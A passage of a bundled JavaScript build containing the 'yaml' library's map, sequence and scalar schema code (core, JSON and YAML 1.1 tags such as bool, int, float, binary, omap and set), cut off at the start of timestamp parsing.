        const { keepUndefined, replacer } = ctx;
        const map = new this(schema);
        const add = (key2, value) => {
          if (typeof replacer === "function")
            value = replacer.call(obj2, key2, value);
          else if (Array.isArray(replacer) && !replacer.includes(key2))
            return;
          if (value !== void 0 || keepUndefined)
            map.items.push(Pair.createPair(key2, value, ctx));
        };
        if (obj2 instanceof Map) {
          for (const [key2, value] of obj2)
            add(key2, value);
        } else if (obj2 && typeof obj2 === "object") {
          for (const key2 of Object.keys(obj2))
            add(key2, obj2[key2]);
        }
        if (typeof schema.sortMapEntries === "function") {
          map.items.sort(schema.sortMapEntries);
        }
        return map;
      }
      /**
       * Adds a value to the collection.
       *
       * @param overwrite - If not set `true`, using a key that is already in the
       *   collection will throw. Otherwise, overwrites the previous value.
       */
      add(pair, overwrite) {
        let _pair;
        if (identity.isPair(pair))
          _pair = pair;
        else if (!pair || typeof pair !== "object" || !("key" in pair)) {
          _pair = new Pair.Pair(pair, pair?.value);
        } else
          _pair = new Pair.Pair(pair.key, pair.value);
        const prev = findPair(this.items, _pair.key);
        const sortEntries = this.schema?.sortMapEntries;
        if (prev) {
          if (!overwrite)
            throw new Error(`Key ${_pair.key} already set`);
          if (identity.isScalar(prev.value) && Scalar2.isScalarValue(_pair.value))
            prev.value.value = _pair.value;
          else
            prev.value = _pair.value;
        } else if (sortEntries) {
          const i = this.items.findIndex((item) => sortEntries(_pair, item) < 0);
          if (i === -1)
            this.items.push(_pair);
          else
            this.items.splice(i, 0, _pair);
        } else {
          this.items.push(_pair);
        }
      }
      delete(key2) {
        const it = findPair(this.items, key2);
        if (!it)
          return false;
        const del = this.items.splice(this.items.indexOf(it), 1);
        return del.length > 0;
      }
      get(key2, keepScalar) {
        const it = findPair(this.items, key2);
        const node = it?.value;
        return (!keepScalar && identity.isScalar(node) ? node.value : node) ?? void 0;
      }
      has(key2) {
        return !!findPair(this.items, key2);
      }
      set(key2, value) {
        this.add(new Pair.Pair(key2, value), true);
      }
      /**
       * @param ctx - Conversion context, originally set in Document#toJS()
       * @param {Class} Type - If set, forces the returned collection type
       * @returns Instance of Type, Map, or Object
       */
      toJSON(_, ctx, Type) {
        const map = Type ? new Type() : ctx?.mapAsMap ? /* @__PURE__ */ new Map() : {};
        if (ctx?.onCreate)
          ctx.onCreate(map);
        for (const item of this.items)
          addPairToJSMap.addPairToJSMap(ctx, map, item);
        return map;
      }
      toString(ctx, onComment, onChompKeep) {
        if (!ctx)
          return JSON.stringify(this);
        for (const item of this.items) {
          if (!identity.isPair(item))
            throw new Error(`Map items must all be pairs; found ${JSON.stringify(item)} instead`);
        }
        if (!ctx.allNullValues && this.hasAllNullValues(false))
          ctx = Object.assign({}, ctx, { allNullValues: true });
        return stringifyCollection.stringifyCollection(this, ctx, {
          blockItemPrefix: "",
          flowChars: { start: "{", end: "}" },
          itemIndent: ctx.indent || "",
          onChompKeep,
          onComment
        });
      }
    };
    exports2.YAMLMap = YAMLMap;
    exports2.findPair = findPair;
  }
});

// node_modules/yaml/dist/schema/common/map.js
var require_map = __commonJS({
  "node_modules/yaml/dist/schema/common/map.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var YAMLMap = require_YAMLMap();
    var map = {
      collection: "map",
      default: true,
      nodeClass: YAMLMap.YAMLMap,
      tag: "tag:yaml.org,2002:map",
      resolve(map2, onError) {
        if (!identity.isMap(map2))
          onError("Expected a mapping for this tag");
        return map2;
      },
      createNode: (schema, obj2, ctx) => YAMLMap.YAMLMap.from(schema, obj2, ctx)
    };
    exports2.map = map;
  }
});

// node_modules/yaml/dist/nodes/YAMLSeq.js
var require_YAMLSeq = __commonJS({
  "node_modules/yaml/dist/nodes/YAMLSeq.js"(exports2) {
    "use strict";
    var createNode = require_createNode();
    var stringifyCollection = require_stringifyCollection();
    var Collection = require_Collection();
    var identity = require_identity();
    var Scalar2 = require_Scalar();
    var toJS = require_toJS();
    var YAMLSeq = class extends Collection.Collection {
      static get tagName() {
        return "tag:yaml.org,2002:seq";
      }
      constructor(schema) {
        super(identity.SEQ, schema);
        this.items = [];
      }
      add(value) {
        this.items.push(value);
      }
      /**
       * Removes a value from the collection.
       *
       * `key` must contain a representation of an integer for this to succeed.
       * It may be wrapped in a `Scalar`.
       *
       * @returns `true` if the item was found and removed.
       */
      delete(key2) {
        const idx = asItemIndex(key2);
        if (typeof idx !== "number")
          return false;
        const del = this.items.splice(idx, 1);
        return del.length > 0;
      }
      get(key2, keepScalar) {
        const idx = asItemIndex(key2);
        if (typeof idx !== "number")
          return void 0;
        const it = this.items[idx];
        return !keepScalar && identity.isScalar(it) ? it.value : it;
      }
      /**
       * Checks if the collection includes a value with the key `key`.
       *
       * `key` must contain a representation of an integer for this to succeed.
       * It may be wrapped in a `Scalar`.
       */
      has(key2) {
        const idx = asItemIndex(key2);
        return typeof idx === "number" && idx < this.items.length;
      }
      /**
       * Sets a value in this collection. For `!!set`, `value` needs to be a
       * boolean to add/remove the item from the set.
       *
       * If `key` does not contain a representation of an integer, this will throw.
       * It may be wrapped in a `Scalar`.
       */
      set(key2, value) {
        const idx = asItemIndex(key2);
        if (typeof idx !== "number")
          throw new Error(`Expected a valid index, not ${key2}.`);
        const prev = this.items[idx];
        if (identity.isScalar(prev) && Scalar2.isScalarValue(value))
          prev.value = value;
        else
          this.items[idx] = value;
      }
      toJSON(_, ctx) {
        const seq = [];
        if (ctx?.onCreate)
          ctx.onCreate(seq);
        let i = 0;
        for (const item of this.items)
          seq.push(toJS.toJS(item, String(i++), ctx));
        return seq;
      }
      toString(ctx, onComment, onChompKeep) {
        if (!ctx)
          return JSON.stringify(this);
        return stringifyCollection.stringifyCollection(this, ctx, {
          blockItemPrefix: "- ",
          flowChars: { start: "[", end: "]" },
          itemIndent: (ctx.indent || "") + "  ",
          onChompKeep,
          onComment
        });
      }
      static from(schema, obj2, ctx) {
        const { replacer } = ctx;
        const seq = new this(schema);
        if (obj2 && Symbol.iterator in Object(obj2)) {
          let i = 0;
          for (let it of obj2) {
            if (typeof replacer === "function") {
              const key2 = obj2 instanceof Set ? it : String(i++);
              it = replacer.call(obj2, key2, it);
            }
            seq.items.push(createNode.createNode(it, void 0, ctx));
          }
        }
        return seq;
      }
    };
    function asItemIndex(key2) {
      let idx = identity.isScalar(key2) ? key2.value : key2;
      if (idx && typeof idx === "string")
        idx = Number(idx);
      return typeof idx === "number" && Number.isInteger(idx) && idx >= 0 ? idx : null;
    }
    exports2.YAMLSeq = YAMLSeq;
  }
});

// node_modules/yaml/dist/schema/common/seq.js
var require_seq = __commonJS({
  "node_modules/yaml/dist/schema/common/seq.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var YAMLSeq = require_YAMLSeq();
    var seq = {
      collection: "seq",
      default: true,
      nodeClass: YAMLSeq.YAMLSeq,
      tag: "tag:yaml.org,2002:seq",
      resolve(seq2, onError) {
        if (!identity.isSeq(seq2))
          onError("Expected a sequence for this tag");
        return seq2;
      },
      createNode: (schema, obj2, ctx) => YAMLSeq.YAMLSeq.from(schema, obj2, ctx)
    };
    exports2.seq = seq;
  }
});

// node_modules/yaml/dist/schema/common/string.js
var require_string = __commonJS({
  "node_modules/yaml/dist/schema/common/string.js"(exports2) {
    "use strict";
    var stringifyString = require_stringifyString();
    var string = {
      identify: (value) => typeof value === "string",
      default: true,
      tag: "tag:yaml.org,2002:str",
      resolve: (str3) => str3,
      stringify(item, ctx, onComment, onChompKeep) {
        ctx = Object.assign({ actualString: true }, ctx);
        return stringifyString.stringifyString(item, ctx, onComment, onChompKeep);
      }
    };
    exports2.string = string;
  }
});

// node_modules/yaml/dist/schema/common/null.js
var require_null = __commonJS({
  "node_modules/yaml/dist/schema/common/null.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    var nullTag = {
      identify: (value) => value == null,
      createNode: () => new Scalar2.Scalar(null),
      default: true,
      tag: "tag:yaml.org,2002:null",
      test: /^(?:~|[Nn]ull|NULL)?$/,
      resolve: () => new Scalar2.Scalar(null),
      stringify: ({ source }, ctx) => typeof source === "string" && nullTag.test.test(source) ? source : ctx.options.nullStr
    };
    exports2.nullTag = nullTag;
  }
});

// node_modules/yaml/dist/schema/core/bool.js
var require_bool = __commonJS({
  "node_modules/yaml/dist/schema/core/bool.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    var boolTag = {
      identify: (value) => typeof value === "boolean",
      default: true,
      tag: "tag:yaml.org,2002:bool",
      test: /^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,
      resolve: (str3) => new Scalar2.Scalar(str3[0] === "t" || str3[0] === "T"),
      stringify({ source, value }, ctx) {
        if (source && boolTag.test.test(source)) {
          const sv = source[0] === "t" || source[0] === "T";
          if (value === sv)
            return source;
        }
        return value ? ctx.options.trueStr : ctx.options.falseStr;
      }
    };
    exports2.boolTag = boolTag;
  }
});

// node_modules/yaml/dist/stringify/stringifyNumber.js
var require_stringifyNumber = __commonJS({
  "node_modules/yaml/dist/stringify/stringifyNumber.js"(exports2) {
    "use strict";
    function stringifyNumber({ format, minFractionDigits, tag, value }) {
      if (typeof value === "bigint")
        return String(value);
      const num = typeof value === "number" ? value : Number(value);
      if (!isFinite(num))
        return isNaN(num) ? ".nan" : num < 0 ? "-.inf" : ".inf";
      let n = Object.is(value, -0) ? "-0" : JSON.stringify(value);
      if (!format && minFractionDigits && (!tag || tag === "tag:yaml.org,2002:float") && /^-?\d/.test(n) && !n.includes("e")) {
        let i = n.indexOf(".");
        if (i < 0) {
          i = n.length;
          n += ".";
        }
        let d = minFractionDigits - (n.length - i - 1);
        while (d-- > 0)
          n += "0";
      }
      return n;
    }
    exports2.stringifyNumber = stringifyNumber;
  }
});

// node_modules/yaml/dist/schema/core/float.js
var require_float = __commonJS({
  "node_modules/yaml/dist/schema/core/float.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    var stringifyNumber = require_stringifyNumber();
    var floatNaN = {
      identify: (value) => typeof value === "number",
      default: true,
      tag: "tag:yaml.org,2002:float",
      test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
      resolve: (str3) => str3.slice(-3).toLowerCase() === "nan" ? NaN : str3[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
      stringify: stringifyNumber.stringifyNumber
    };
    var floatExp = {
      identify: (value) => typeof value === "number",
      default: true,
      tag: "tag:yaml.org,2002:float",
      format: "EXP",
      test: /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,
      resolve: (str3) => parseFloat(str3),
      stringify(node) {
        const num = Number(node.value);
        return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
      }
    };
    var float = {
      identify: (value) => typeof value === "number",
      default: true,
      tag: "tag:yaml.org,2002:float",
      test: /^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,
      resolve(str3) {
        const node = new Scalar2.Scalar(parseFloat(str3));
        const dot = str3.indexOf(".");
        if (dot !== -1 && str3[str3.length - 1] === "0")
          node.minFractionDigits = str3.length - dot - 1;
        return node;
      },
      stringify: stringifyNumber.stringifyNumber
    };
    exports2.float = float;
    exports2.floatExp = floatExp;
    exports2.floatNaN = floatNaN;
  }
});

// node_modules/yaml/dist/schema/core/int.js
var require_int = __commonJS({
  "node_modules/yaml/dist/schema/core/int.js"(exports2) {
    "use strict";
    var stringifyNumber = require_stringifyNumber();
    var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
    var intResolve = (str3, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str3) : parseInt(str3.substring(offset), radix);
    function intStringify(node, radix, prefix) {
      const { value } = node;
      if (intIdentify(value) && value >= 0)
        return prefix + value.toString(radix);
      return stringifyNumber.stringifyNumber(node);
    }
    var intOct = {
      identify: (value) => intIdentify(value) && value >= 0,
      default: true,
      tag: "tag:yaml.org,2002:int",
      format: "OCT",
      test: /^0o[0-7]+$/,
      resolve: (str3, _onError, opt2) => intResolve(str3, 2, 8, opt2),
      stringify: (node) => intStringify(node, 8, "0o")
    };
    var int = {
      identify: intIdentify,
      default: true,
      tag: "tag:yaml.org,2002:int",
      test: /^[-+]?[0-9]+$/,
      resolve: (str3, _onError, opt2) => intResolve(str3, 0, 10, opt2),
      stringify: stringifyNumber.stringifyNumber
    };
    var intHex = {
      identify: (value) => intIdentify(value) && value >= 0,
      default: true,
      tag: "tag:yaml.org,2002:int",
      format: "HEX",
      test: /^0x[0-9a-fA-F]+$/,
      resolve: (str3, _onError, opt2) => intResolve(str3, 2, 16, opt2),
      stringify: (node) => intStringify(node, 16, "0x")
    };
    exports2.int = int;
    exports2.intHex = intHex;
    exports2.intOct = intOct;
  }
});

// node_modules/yaml/dist/schema/core/schema.js
var require_schema = __commonJS({
  "node_modules/yaml/dist/schema/core/schema.js"(exports2) {
    "use strict";
    var map = require_map();
    var _null = require_null();
    var seq = require_seq();
    var string = require_string();
    var bool = require_bool();
    var float = require_float();
    var int = require_int();
    var schema = [
      map.map,
      seq.seq,
      string.string,
      _null.nullTag,
      bool.boolTag,
      int.intOct,
      int.int,
      int.intHex,
      float.floatNaN,
      float.floatExp,
      float.float
    ];
    exports2.schema = schema;
  }
});

// node_modules/yaml/dist/schema/json/schema.js
var require_schema2 = __commonJS({
  "node_modules/yaml/dist/schema/json/schema.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    var map = require_map();
    var seq = require_seq();
    function intIdentify(value) {
      return typeof value === "bigint" || Number.isInteger(value);
    }
    var stringifyJSON = ({ value }) => JSON.stringify(value);
    var jsonScalars = [
      {
        identify: (value) => typeof value === "string",
        default: true,
        tag: "tag:yaml.org,2002:str",
        resolve: (str3) => str3,
        stringify: stringifyJSON
      },
      {
        identify: (value) => value == null,
        createNode: () => new Scalar2.Scalar(null),
        default: true,
        tag: "tag:yaml.org,2002:null",
        test: /^null$/,
        resolve: () => null,
        stringify: stringifyJSON
      },
      {
        identify: (value) => typeof value === "boolean",
        default: true,
        tag: "tag:yaml.org,2002:bool",
        test: /^true$|^false$/,
        resolve: (str3) => str3 === "true",
        stringify: stringifyJSON
      },
      {
        identify: intIdentify,
        default: true,
        tag: "tag:yaml.org,2002:int",
        test: /^-?(?:0|[1-9][0-9]*)$/,
        resolve: (str3, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str3) : parseInt(str3, 10),
        stringify: ({ value }) => intIdentify(value) ? value.toString() : JSON.stringify(value)
      },
      {
        identify: (value) => typeof value === "number",
        default: true,
        tag: "tag:yaml.org,2002:float",
        test: /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,
        resolve: (str3) => parseFloat(str3),
        stringify: stringifyJSON
      }
    ];
    var jsonError2 = {
      default: true,
      tag: "",
      test: /^/,
      resolve(str3, onError) {
        onError(`Unresolved plain scalar ${JSON.stringify(str3)}`);
        return str3;
      }
    };
    var schema = [map.map, seq.seq].concat(jsonScalars, jsonError2);
    exports2.schema = schema;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/binary.js
var require_binary = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/binary.js"(exports2) {
    "use strict";
    var node_buffer = require("buffer");
    var Scalar2 = require_Scalar();
    var stringifyString = require_stringifyString();
    var binary2 = {
      identify: (value) => value instanceof Uint8Array,
      // Buffer inherits from Uint8Array
      default: false,
      tag: "tag:yaml.org,2002:binary",
      /**
       * Returns a Buffer in node and an Uint8Array in browsers
       *
       * To use the resulting buffer as an image, you'll want to do something like:
       *
       *   const blob = new Blob([buffer], { type: 'image/jpeg' })
       *   document.querySelector('#photo').src = URL.createObjectURL(blob)
       */
      resolve(src, onError) {
        if (typeof node_buffer.Buffer === "function") {
          return node_buffer.Buffer.from(src, "base64");
        } else if (typeof atob === "function") {
          const str3 = atob(src.replace(/[\n\r]/g, ""));
          const buffer = new Uint8Array(str3.length);
          for (let i = 0; i < str3.length; ++i)
            buffer[i] = str3.charCodeAt(i);
          return buffer;
        } else {
          onError("This environment does not support reading binary tags; either Buffer or atob is required");
          return src;
        }
      },
      stringify({ comment, type, value }, ctx, onComment, onChompKeep) {
        if (!value)
          return "";
        const buf = value;
        let str3;
        if (typeof node_buffer.Buffer === "function") {
          str3 = buf instanceof node_buffer.Buffer ? buf.toString("base64") : node_buffer.Buffer.from(buf.buffer).toString("base64");
        } else if (typeof btoa === "function") {
          let s = "";
          for (let i = 0; i < buf.length; ++i)
            s += String.fromCharCode(buf[i]);
          str3 = btoa(s);
        } else {
          throw new Error("This environment does not support writing binary tags; either Buffer or btoa is required");
        }
        type ?? (type = Scalar2.Scalar.BLOCK_LITERAL);
        if (type !== Scalar2.Scalar.QUOTE_DOUBLE) {
          const lineWidth = Math.max(ctx.options.lineWidth - ctx.indent.length, ctx.options.minContentWidth);
          const n = Math.ceil(str3.length / lineWidth);
          const lines = new Array(n);
          for (let i = 0, o = 0; i < n; ++i, o += lineWidth) {
            lines[i] = str3.substr(o, lineWidth);
          }
          str3 = lines.join(type === Scalar2.Scalar.BLOCK_LITERAL ? "\n" : " ");
        }
        return stringifyString.stringifyString({ comment, type, value: str3 }, ctx, onComment, onChompKeep);
      }
    };
    exports2.binary = binary2;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/pairs.js
var require_pairs = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/pairs.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var Pair = require_Pair();
    var Scalar2 = require_Scalar();
    var YAMLSeq = require_YAMLSeq();
    function resolvePairs(seq, onError) {
      if (identity.isSeq(seq)) {
        for (let i = 0; i < seq.items.length; ++i) {
          let item = seq.items[i];
          if (identity.isPair(item))
            continue;
          else if (identity.isMap(item)) {
            if (item.items.length > 1)
              onError("Each pair must have its own sequence indicator");
            const pair = item.items[0] || new Pair.Pair(new Scalar2.Scalar(null));
            if (item.commentBefore)
              pair.key.commentBefore = pair.key.commentBefore ? `${item.commentBefore}
${pair.key.commentBefore}` : item.commentBefore;
            if (item.comment) {
              const cn = pair.value ?? pair.key;
              cn.comment = cn.comment ? `${item.comment}
${cn.comment}` : item.comment;
            }
            item = pair;
          }
          seq.items[i] = identity.isPair(item) ? item : new Pair.Pair(item);
        }
      } else
        onError("Expected a sequence for this tag");
      return seq;
    }
    function createPairs(schema, iterable, ctx) {
      const { replacer } = ctx;
      const pairs2 = new YAMLSeq.YAMLSeq(schema);
      pairs2.tag = "tag:yaml.org,2002:pairs";
      let i = 0;
      if (iterable && Symbol.iterator in Object(iterable))
        for (let it of iterable) {
          if (typeof replacer === "function")
            it = replacer.call(iterable, String(i++), it);
          let key2, value;
          if (Array.isArray(it)) {
            if (it.length === 2) {
              key2 = it[0];
              value = it[1];
            } else
              throw new TypeError(`Expected [key, value] tuple: ${it}`);
          } else if (it && it instanceof Object) {
            const keys = Object.keys(it);
            if (keys.length === 1) {
              key2 = keys[0];
              value = it[key2];
            } else {
              throw new TypeError(`Expected tuple with one key, not ${keys.length} keys`);
            }
          } else {
            key2 = it;
          }
          pairs2.items.push(Pair.createPair(key2, value, ctx));
        }
      return pairs2;
    }
    var pairs = {
      collection: "seq",
      default: false,
      tag: "tag:yaml.org,2002:pairs",
      resolve: resolvePairs,
      createNode: createPairs
    };
    exports2.createPairs = createPairs;
    exports2.pairs = pairs;
    exports2.resolvePairs = resolvePairs;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/omap.js
var require_omap = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/omap.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var toJS = require_toJS();
    var YAMLMap = require_YAMLMap();
    var YAMLSeq = require_YAMLSeq();
    var pairs = require_pairs();
    var YAMLOMap = class _YAMLOMap extends YAMLSeq.YAMLSeq {
      constructor() {
        super();
        this.add = YAMLMap.YAMLMap.prototype.add.bind(this);
        this.delete = YAMLMap.YAMLMap.prototype.delete.bind(this);
        this.get = YAMLMap.YAMLMap.prototype.get.bind(this);
        this.has = YAMLMap.YAMLMap.prototype.has.bind(this);
        this.set = YAMLMap.YAMLMap.prototype.set.bind(this);
        this.tag = _YAMLOMap.tag;
      }
      /**
       * If `ctx` is given, the return type is actually `Map<unknown, unknown>`,
       * but TypeScript won't allow widening the signature of a child method.
       */
      toJSON(_, ctx) {
        if (!ctx)
          return super.toJSON(_);
        const map = /* @__PURE__ */ new Map();
        if (ctx?.onCreate)
          ctx.onCreate(map);
        for (const pair of this.items) {
          let key2, value;
          if (identity.isPair(pair)) {
            key2 = toJS.toJS(pair.key, "", ctx);
            value = toJS.toJS(pair.value, key2, ctx);
          } else {
            key2 = toJS.toJS(pair, "", ctx);
          }
          if (map.has(key2))
            throw new Error("Ordered maps must not include duplicate keys");
          map.set(key2, value);
        }
        return map;
      }
      static from(schema, iterable, ctx) {
        const pairs$1 = pairs.createPairs(schema, iterable, ctx);
        const omap2 = new this();
        omap2.items = pairs$1.items;
        return omap2;
      }
    };
    YAMLOMap.tag = "tag:yaml.org,2002:omap";
    var omap = {
      collection: "seq",
      identify: (value) => value instanceof Map,
      nodeClass: YAMLOMap,
      default: false,
      tag: "tag:yaml.org,2002:omap",
      resolve(seq, onError) {
        const pairs$1 = pairs.resolvePairs(seq, onError);
        const seenKeys = [];
        for (const { key: key2 } of pairs$1.items) {
          if (identity.isScalar(key2)) {
            if (seenKeys.includes(key2.value)) {
              onError(`Ordered maps must not include duplicate keys: ${key2.value}`);
            } else {
              seenKeys.push(key2.value);
            }
          }
        }
        return Object.assign(new YAMLOMap(), pairs$1);
      },
      createNode: (schema, iterable, ctx) => YAMLOMap.from(schema, iterable, ctx)
    };
    exports2.YAMLOMap = YAMLOMap;
    exports2.omap = omap;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/bool.js
var require_bool2 = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/bool.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    function boolStringify({ value, source }, ctx) {
      const boolObj = value ? trueTag : falseTag;
      if (source && boolObj.test.test(source))
        return source;
      return value ? ctx.options.trueStr : ctx.options.falseStr;
    }
    var trueTag = {
      identify: (value) => value === true,
      default: true,
      tag: "tag:yaml.org,2002:bool",
      test: /^(?:Y|y|[Yy]es|YES|[Tt]rue|TRUE|[Oo]n|ON)$/,
      resolve: () => new Scalar2.Scalar(true),
      stringify: boolStringify
    };
    var falseTag = {
      identify: (value) => value === false,
      default: true,
      tag: "tag:yaml.org,2002:bool",
      test: /^(?:N|n|[Nn]o|NO|[Ff]alse|FALSE|[Oo]ff|OFF)$/,
      resolve: () => new Scalar2.Scalar(false),
      stringify: boolStringify
    };
    exports2.falseTag = falseTag;
    exports2.trueTag = trueTag;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/float.js
var require_float2 = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/float.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    var stringifyNumber = require_stringifyNumber();
    var floatNaN = {
      identify: (value) => typeof value === "number",
      default: true,
      tag: "tag:yaml.org,2002:float",
      test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
      resolve: (str3) => str3.slice(-3).toLowerCase() === "nan" ? NaN : str3[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
      stringify: stringifyNumber.stringifyNumber
    };
    var floatExp = {
      identify: (value) => typeof value === "number",
      default: true,
      tag: "tag:yaml.org,2002:float",
      format: "EXP",
      test: /^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,
      resolve: (str3) => parseFloat(str3.replace(/_/g, "")),
      stringify(node) {
        const num = Number(node.value);
        return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
      }
    };
    var float = {
      identify: (value) => typeof value === "number",
      default: true,
      tag: "tag:yaml.org,2002:float",
      test: /^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,
      resolve(str3) {
        const node = new Scalar2.Scalar(parseFloat(str3.replace(/_/g, "")));
        const dot = str3.indexOf(".");
        if (dot !== -1) {
          const f = str3.substring(dot + 1).replace(/_/g, "");
          if (f[f.length - 1] === "0")
            node.minFractionDigits = f.length;
        }
        return node;
      },
      stringify: stringifyNumber.stringifyNumber
    };
    exports2.float = float;
    exports2.floatExp = floatExp;
    exports2.floatNaN = floatNaN;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/int.js
var require_int2 = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/int.js"(exports2) {
    "use strict";
    var stringifyNumber = require_stringifyNumber();
    var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
    function intResolve(str3, offset, radix, { intAsBigInt }) {
      const sign = str3[0];
      if (sign === "-" || sign === "+")
        offset += 1;
      str3 = str3.substring(offset).replace(/_/g, "");
      if (intAsBigInt) {
        switch (radix) {
          case 2:
            str3 = `0b${str3}`;
            break;
          case 8:
            str3 = `0o${str3}`;
            break;
          case 16:
            str3 = `0x${str3}`;
            break;
        }
        const n2 = BigInt(str3);
        return sign === "-" ? BigInt(-1) * n2 : n2;
      }
      const n = parseInt(str3, radix);
      return sign === "-" ? -1 * n : n;
    }
    function intStringify(node, radix, prefix) {
      const { value } = node;
      if (intIdentify(value)) {
        const str3 = value.toString(radix);
        return value < 0 ? "-" + prefix + str3.substr(1) : prefix + str3;
      }
      return stringifyNumber.stringifyNumber(node);
    }
    var intBin = {
      identify: intIdentify,
      default: true,
      tag: "tag:yaml.org,2002:int",
      format: "BIN",
      test: /^[-+]?0b[0-1_]+$/,
      resolve: (str3, _onError, opt2) => intResolve(str3, 2, 2, opt2),
      stringify: (node) => intStringify(node, 2, "0b")
    };
    var intOct = {
      identify: intIdentify,
      default: true,
      tag: "tag:yaml.org,2002:int",
      format: "OCT",
      test: /^[-+]?0[0-7_]+$/,
      resolve: (str3, _onError, opt2) => intResolve(str3, 1, 8, opt2),
      stringify: (node) => intStringify(node, 8, "0")
    };
    var int = {
      identify: intIdentify,
      default: true,
      tag: "tag:yaml.org,2002:int",
      test: /^[-+]?[0-9][0-9_]*$/,
      resolve: (str3, _onError, opt2) => intResolve(str3, 0, 10, opt2),
      stringify: stringifyNumber.stringifyNumber
    };
    var intHex = {
      identify: intIdentify,
      default: true,
      tag: "tag:yaml.org,2002:int",
      format: "HEX",
      test: /^[-+]?0x[0-9a-fA-F_]+$/,
      resolve: (str3, _onError, opt2) => intResolve(str3, 2, 16, opt2),
      stringify: (node) => intStringify(node, 16, "0x")
    };
    exports2.int = int;
    exports2.intBin = intBin;
    exports2.intHex = intHex;
    exports2.intOct = intOct;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/set.js
var require_set = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/set.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var Pair = require_Pair();
    var YAMLMap = require_YAMLMap();
    var YAMLSet = class _YAMLSet extends YAMLMap.YAMLMap {
      constructor(schema) {
        super(schema);
        this.tag = _YAMLSet.tag;
      }
      add(key2) {
        let pair;
        if (identity.isPair(key2))
          pair = key2;
        else if (key2 && typeof key2 === "object" && "key" in key2 && "value" in key2 && key2.value === null)
          pair = new Pair.Pair(key2.key, null);
        else
          pair = new Pair.Pair(key2, null);
        const prev = YAMLMap.findPair(this.items, pair.key);
        if (!prev)
          this.items.push(pair);
      }
      /**
       * If `keepPair` is `true`, returns the Pair matching `key`.
       * Otherwise, returns the value of that Pair's key.
       */
      get(key2, keepPair) {
        const pair = YAMLMap.findPair(this.items, key2);
        return !keepPair && identity.isPair(pair) ? identity.isScalar(pair.key) ? pair.key.value : pair.key : pair;
      }
      set(key2, value) {
        if (typeof value !== "boolean")
          throw new Error(`Expected boolean value for set(key, value) in a YAML set, not ${typeof value}`);
        const prev = YAMLMap.findPair(this.items, key2);
        if (prev && !value) {
          this.items.splice(this.items.indexOf(prev), 1);
        } else if (!prev && value) {
          this.items.push(new Pair.Pair(key2));
        }
      }
      toJSON(_, ctx) {
        return super.toJSON(_, ctx, Set);
      }
      toString(ctx, onComment, onChompKeep) {
        if (!ctx)
          return JSON.stringify(this);
        if (this.hasAllNullValues(true))
          return super.toString(Object.assign({}, ctx, { allNullValues: true }), onComment, onChompKeep);
        else
          throw new Error("Set items must all have null values");
      }
      static from(schema, iterable, ctx) {
        const { replacer } = ctx;
        const set2 = new this(schema);
        if (iterable && Symbol.iterator in Object(iterable))
          for (let value of iterable) {
            if (typeof replacer === "function")
              value = replacer.call(iterable, value, value);
            set2.items.push(Pair.createPair(value, null, ctx));
          }
        return set2;
      }
    };
    YAMLSet.tag = "tag:yaml.org,2002:set";
    var set = {
      collection: "map",
      identify: (value) => value instanceof Set,
      nodeClass: YAMLSet,
      default: false,
      tag: "tag:yaml.org,2002:set",
      createNode: (schema, iterable, ctx) => YAMLSet.from(schema, iterable, ctx),
      resolve(map, onError) {
        if (identity.isMap(map)) {
          if (map.hasAllNullValues(true))
            return Object.assign(new YAMLSet(), map);
          else
            onError("Set items must all have null values");
        } else
          onError("Expected a mapping for this tag");
        return map;
      }
    };
    exports2.YAMLSet = YAMLSet;
    exports2.set = set;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/timestamp.js
var require_timestamp = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/timestamp.js"(exports2) {
    "use strict";
    var stringifyNumber = require_stringifyNumber();
    function parseSexagesimal(str3, asBigInt) {
      const sign = str3[0];
      const parts = sign === "-" || sign === "+" ? str3.substring(1) : str3;
      const num = (n) => asBigInt ? BigInt(n) : Number(n);
